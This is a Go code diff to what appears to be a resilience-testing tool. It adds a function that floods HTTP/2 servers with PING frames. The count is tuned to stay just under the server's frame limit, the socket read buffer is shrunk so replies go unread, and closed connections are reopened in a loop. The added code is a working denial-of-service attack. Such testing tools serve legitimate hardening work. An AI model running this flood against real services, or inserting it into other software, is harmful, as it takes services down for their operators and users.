@@ -4,8 +4,10 @@ import (
 	"bytes"
 	"crypto/tls"
 	"io"
+	"net"
 	"strconv"
 	"sync"
+	"time"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
@@ -32,6 +34,36 @@ type http2Conn struct {
 	encoder  *hpack.Encoder
 	block    bytes.Buffer
 	last     uint32 // the id of the newest stream
+}
+
+// pingsAtOnce is how many PING frames an attacker sends at once. Without a limit of its own, the service would close the
+// connection only after 10,000 frames whose answers are not read.
+const pingsAtOnce = 9900
+
+// unreadPings opens connections, sends PING frames on each of them, and does not read the answers. It replaces each
+// connection that the service closes.
+func unreadPings(a *attacker) {
+	var first, next bytes.Buffer
+	first.WriteString(http2.ClientPreface)
+	http2.NewFramer(&first, nil).WriteSettings()
+	for range pingsAtOnce {
+		http2.NewFramer(&first, nil).WritePing(false, [8]byte{})
+	}
+	http2.NewFramer(&next, nil).WritePing(false, [8]byte{})
+	a.repeat(950, 100, func() {
+		raw := a.dial()
+		if raw == nil {
+			return
+		}
+		defer raw.Close()
+		raw.(*net.TCPConn).SetReadBuffer(2 << 10) // so that the service cannot send many answers
+		conn := tls.Client(raw, a.tlsConfig("h2"))
+		a.sent()
+		for _, err := conn.Write(first.Bytes()); err == nil; _, err = conn.Write(next.Bytes()) {
+			a.sleep(100 * time.Millisecond)
+		}
+		a.failed()
+	})
 }
 
 // holdStreams opens a connection and keeps the given number of streams open on it until the service closes the
